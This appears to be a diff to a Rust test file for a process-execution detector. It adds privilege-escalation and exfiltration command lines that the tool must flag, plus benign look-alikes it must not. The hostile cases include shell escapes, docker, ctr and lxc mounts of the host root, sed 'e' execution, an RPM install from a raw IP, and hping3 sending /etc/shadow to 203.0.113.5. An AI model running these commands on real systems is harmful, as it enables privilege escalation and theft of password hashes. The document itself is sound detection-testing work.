@@ -287,6 +287,87 @@ fn techniques_are_caught() {
             },
             "Under Another Name",
         ),
+        (
+            exec(
+                "/bin/sh",
+                "/bin/sh -c /bin/sh 0<&2 1>&2; kill $PPID",
+                "/usr/bin/msgfilter",
+            ),
+            "Wired to the Terminal",
+        ),
+        (
+            exec(
+                "/bin/sh",
+                "/bin/sh -c $@|sh _ echo sh </dev/tty >/dev/tty 2>/dev/tty",
+                "/usr/bin/jrunscript",
+            ),
+            "Wired to the Terminal",
+        ),
+        (
+            exec("/usr/bin/dvips", "dvips -R0 texput.dvi", "/bin/bash"),
+            "Shell Escapes",
+        ),
+        (
+            exec(
+                "/usr/bin/pdflatex",
+                "pdflatex --shell-escape doc.tex",
+                "/bin/bash",
+            ),
+            "Shell Escapes",
+        ),
+        (
+            exec(
+                "/usr/bin/docker",
+                "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
+                "/bin/bash",
+            ),
+            "Host's Root",
+        ),
+        (
+            exec(
+                "/usr/bin/ctr",
+                "ctr run --rm --mount type=bind,src=/,dst=/,options=rbind -t alpine x",
+                "/usr/bin/sudo",
+            ),
+            "Host's Root",
+        ),
+        (
+            exec(
+                "/usr/bin/lxc",
+                "lxc config device add x x disk source=/ path=/mnt/ recursive=true",
+                "/bin/bash",
+            ),
+            "Host's Root",
+        ),
+        (exec("/usr/bin/sed", "sed e", "/bin/bash"), "e Command"),
+        (
+            exec("/usr/bin/sed", "sed -n 1e id /etc/hosts", "/bin/bash"),
+            "e Command",
+        ),
+        (
+            exec(
+                "/usr/bin/systemctl",
+                "systemctl enable --now /tmp/x.service",
+                "/usr/bin/sudo",
+            ),
+            "Outside the Unit Directories",
+        ),
+        (
+            exec(
+                "/usr/bin/yum",
+                "yum install http://203.0.113.5/x.rpm",
+                "/usr/bin/sudo",
+            ),
+            "From a URL",
+        ),
+        (
+            exec(
+                "/usr/sbin/hping3",
+                "hping3 203.0.113.5 --icmp --data 100 --sign x --file /etc/shadow",
+                "/bin/bash",
+            ),
+            "Hping",
+        ),
     ];
     let mut failures = Vec::new();
     for (e, expected) in &cases {
@@ -315,6 +396,38 @@ fn ordinary_work_is_not_flagged() {
             ..exec("/usr/bin/dash", "sh -c 'make all'", "/usr/bin/make")
         },
         exec("/usr/bin/less", "less /var/log/syslog", "/bin/bash"),
+        // Look-alikes of the rules above.
+        exec("/bin/sh", "sh -c exec bash </dev/tty", "/bin/bash"),
+        exec("/usr/bin/dvips", "dvips paper.dvi -o paper.ps", "/bin/bash"),
+        exec("/usr/bin/pdflatex", "pdflatex report.tex", "/bin/bash"),
+        exec(
+            "/usr/bin/docker",
+            "docker run -d -v /srv/pgdata:/var/lib/postgresql/data postgres:16",
+            "/bin/bash",
+        ),
+        exec("/usr/bin/sed", "sed -e s/foo/bar/g notes.txt", "/bin/bash"),
+        exec("/usr/bin/sed", "sed -n /error/p app.log", "/bin/bash"),
+        exec(
+            "/usr/bin/sed",
+            "sed -i.bak -e /^#/d config.ini",
+            "/bin/bash",
+        ),
+        exec(
+            "/usr/bin/systemctl",
+            "systemctl enable --now postgresql",
+            "/bin/bash",
+        ),
+        exec(
+            "/usr/bin/systemctl",
+            "systemctl link /etc/systemd/system/backup.service",
+            "/bin/bash",
+        ),
+        exec("/usr/bin/dnf", "dnf install -y nginx", "/bin/bash"),
+        exec(
+            "/usr/sbin/hping3",
+            "hping3 -S -p 443 -c 3 example.org",
+            "/bin/bash",
+        ),
         exec("/usr/bin/vim", "vim notes.txt", "/bin/bash"),
         exec("/usr/bin/find", "find . -name *.log", "/bin/bash"),
         exec("/usr/bin/awk", "awk {print $1}", "/bin/bash"),
